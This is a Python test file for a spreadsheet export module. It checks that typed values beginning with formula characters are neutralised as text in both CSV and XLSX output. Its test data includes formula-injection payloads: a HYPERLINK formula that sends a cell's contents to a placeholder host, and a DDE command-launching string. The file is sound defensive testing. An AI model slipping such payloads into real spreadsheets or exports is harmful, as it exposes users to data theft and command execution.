"""A formula in what somebody typed, in every file a spreadsheet opens."""

import csv
import io
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from zhongshu.channels.desk.presenters import sheets

FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    ' "=1',
    "＝1",
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C x'!A0",
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def _cells(rows: list[list[str]]) -> list[str]:
    text = b"".join(sheets.csv_lines(rows)).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_formula_is_text_in_both_kinds_of_file(typed: str) -> None:
    (cell,) = _cells([[typed]])
    assert cell == f"'{typed}"
    with ZipFile(sheets.xlsx_file([[typed]], "表")) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="inlineStr"' in sheet


@given(st.text("=+-@\t\r\n＝ \"'a1,", max_size=8))
@settings(max_examples=50, deadline=None, derandomize=True)
def test_no_cell_begins_as_a_formula_and_no_text_is_lost(typed: str) -> None:
    cells = _cells([[typed, "b"]])
    assert not cells[0].lstrip(' "').startswith(STARTS) and cells[0].removeprefix("'") in (
        typed,
        typed.removeprefix("'"),
    )
